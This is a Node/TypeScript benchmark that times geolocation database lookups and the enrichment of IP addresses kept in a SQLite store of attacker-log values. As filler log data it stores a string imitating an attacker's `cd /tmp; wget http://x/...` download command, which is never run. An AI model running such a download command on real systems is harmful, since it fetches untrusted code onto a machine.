/**
 * Measures databases of places: opening, memory, look-ups, and how fast the addresses of a store get their places. The
 * files are made here: one of 500,000 networks, and one of more than 100 MB.
 *
 *     node bench/geo.ts [--networks N] [--addresses N]
 */
import { spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { cpus, loadavg, tmpdir, totalmem } from 'node:os'
import { join } from 'node:path'
import { parseArgs } from 'node:util'
import { sealing } from '../src/cli/wiring.ts'
import { enrich } from '../src/geo/enrich.ts'
import { GeoDatabases, openDatabase } from '../src/geo/reader.ts'
import { systemFiles } from '../src/source/files.ts'
import { SqliteStore } from '../src/store/sqlite/store.ts'
import { type MmdbData, mmdb } from '../test/support/mmdb.ts'

const { values } = parseArgs({
  options: {
    networks: { type: 'string', default: '500000' },
    addresses: { type: 'string', default: '200000' },
    memory: { type: 'string' },
  },
})
const networks = Number(values.networks)
const clock = (): number => Date.now() * 1_000

/** Microseconds of CPU that the work took. */
async function cpuOf<T>(work: () => Promise<T> | T): Promise<readonly [T, number]> {
  const before = process.cpuUsage()
  const result = await work()
  const { user, system } = process.cpuUsage(before)
  return [result, user + system]
}

/** The n-th of so many networks of 256 addresses, spread over all. */
function networkAt(n: number): number {
  return Math.floor((n * 2 ** 24) / networks)
}

/** An address of one of them: the n-th in an order without order. */
const addressOf = (n: number): string => dotted(networkAt((n * 7_919) % networks) * 256 + (n & 255))

const dotted = (address: number): string =>
  [24, 16, 8, 0].map((shift) => (address >>> shift) & 255).join('.')

function* records(recordOf: (n: number) => MmdbData): Generator<readonly [string, MmdbData]> {
  for (let n = 0; n < networks; n += 1)
    yield [`${dotted(networkAt(n) * 256)}/24`, recordOf(n)] as const
}

if (values.memory !== undefined) {
  // A process of its own: what it needs is the file and little else.
  const before = process.memoryUsage()
  const [database, cpu] = await cpuOf(() => openDatabase(values.memory!, systemFiles, clock))
  globalThis.gc?.()
  const opened = process.memoryUsage()
  for (let n = 0; n < 300_000; n += 1) database.lookup(addressOf(n))
  globalThis.gc?.()
  const used = process.memoryUsage()
  const MiB = (bytes: number): string => `${(bytes / 2 ** 20).toFixed(0)} MiB`
  console.log(
    `  opened in ${(cpu / 1e6).toFixed(2)} CPU s; resident ${MiB(before.rss)} before, ${MiB(opened.rss)} open, ${MiB(used.rss)} after 300,000 look-ups (heap ${MiB(used.heapUsed)})`,
  )
  process.exit(0)
}

console.log(
  `Machine: ${cpus().length} x ${cpus()[0]?.model ?? 'unknown'}, ${Math.round(totalmem() / 2 ** 30)} GiB, Node ${process.versions.node}, load ${loadavg()[0]?.toFixed(1)}`,
)
const folder = mkdtempSync(join(tmpdir(), 'nacre-bench-geo-'))
mkdirSync(folder, { recursive: true })
try {
  const systems = Array.from({ length: 80_000 }, (_, n) => ({
    autonomous_system_number: n + 1,
    autonomous_system_organization: `Network number ${n + 1}`,
  }))
  const countries = Array.from({ length: 250 }, (_, n) => ({
    country: {
      iso_code: String.fromCharCode(65 + (n % 26), 65 + Math.floor(n / 26)),
      names: { en: `Country ${n}`, de: `Land ${n}` },
    },
  }))
  const files = {
    countries: mmdb(records((n) => countries[(n * 7) % countries.length]!)),
    systems: mmdb(records((n) => systems[(n * 7) % systems.length]!)),
    large: mmdb(
      records((n) => ({
        city: { names: { en: `City ${n}`, de: `Stadt ${n}`, fr: `Ville ${n}`, es: `Ciudad ${n}` } },
        country: countries[n % countries.length]!.country,
        location: { time_zone: 'Europe/Berlin', accuracy_radius: n % 1_000 },
        postal: { code: String(n) },
      })),
    ),
  }
  for (const [name, bytes] of Object.entries(files)) {
    const path = join(folder, `${name}.mmdb`)
    writeFileSync(path, bytes)
    console.log(`${name}: ${networks} networks, ${(bytes.length / 1e6).toFixed(0)} MB`)
    const child = spawnSync(
      process.execPath,
      ['--expose-gc', import.meta.filename, '--networks', values.networks, '--memory', path],
      { encoding: 'utf8' },
    )
    process.stdout.write(child.stdout || child.stderr)
    const database = await openDatabase(path, systemFiles, clock)
    const addresses = Array.from({ length: 500_000 }, (_, n) => addressOf(n))
    for (const round of ['first', 'second']) {
      const [found, cpu] = await cpuOf(
        () => addresses.filter((one) => database.lookup(one).network !== null).length,
      )
      console.log(
        `  ${round} 500,000 look-ups: ${Math.round(500_000 / (cpu / 1e6)).toLocaleString('en-GB')} a CPU second, ${found} found`,
      )
    }
  }

  const databases = new GeoDatabases([
    await openDatabase(join(folder, 'countries.mmdb'), systemFiles, clock),
    await openDatabase(join(folder, 'systems.mmdb'), systemFiles, clock),
  ])
  const path = join(folder, 'nacre.sqlite')
  const store = await SqliteStore.open({
    ...{ path, mode: 'create', sealing, clock, command: 'bench' },
    settings: { cacheSize: -64_000, synchronous: 'normal', pageSize: 16_384 },
  })
  const count = Number(values.addresses)
  const insert = store.connection.prepare(
    'insert into "values" (id, kind, digest, value) values (?, ?, ?, ?)',
  )
  store.connection.transaction(() => {
    for (let id = 1; id <= count * 5; id += 1) {
      const digest = Buffer.alloc(16)
      digest.writeUInt32BE(id)
      // One in five is an address, as among values of attackers' logs.
      const isAddress = id % 5 === 0
      const text = isAddress ? addressOf(id) : `cd /tmp; wget http://x/${id}`
      insert.run(id, isAddress ? 5 : 1, digest, text)
    }
  })()
  const signal = new AbortController().signal
  const before = statSync(path).size
  for (const name of ['first', 'second']) {
    const [report, cpu] = await cpuOf(() => enrich(store, databases, { signal, clock }))
    console.log(
      `enrich, ${name} call: ${report.lookedUp} of ${count} addresses looked up in ${(cpu / 1e6).toFixed(2)} CPU s (${Math.round(count / (cpu / 1e6)).toLocaleString('en-GB')} addresses a CPU second)`,
    )
  }
  store.connection.pragma('wal_checkpoint(truncate)')
  console.log(`  ${((statSync(path).size - before) / count).toFixed(0)} bytes an address`)
  let most = 0
  let after = 0
  for (let isLast = false; !isLast; ) {
    const started = performance.now()
    const rows = await store.places.addresses(after, 1_000)
    most = Math.max(most, performance.now() - started)
    after = rows.at(-1)?.valueId ?? after
    isLast = rows.length === 0
  }
  console.log(`  longest page of a second call: ${most.toFixed(1)} ms`)
  await store.close()
} finally {
  rmSync(folder, { recursive: true, force: true })
}
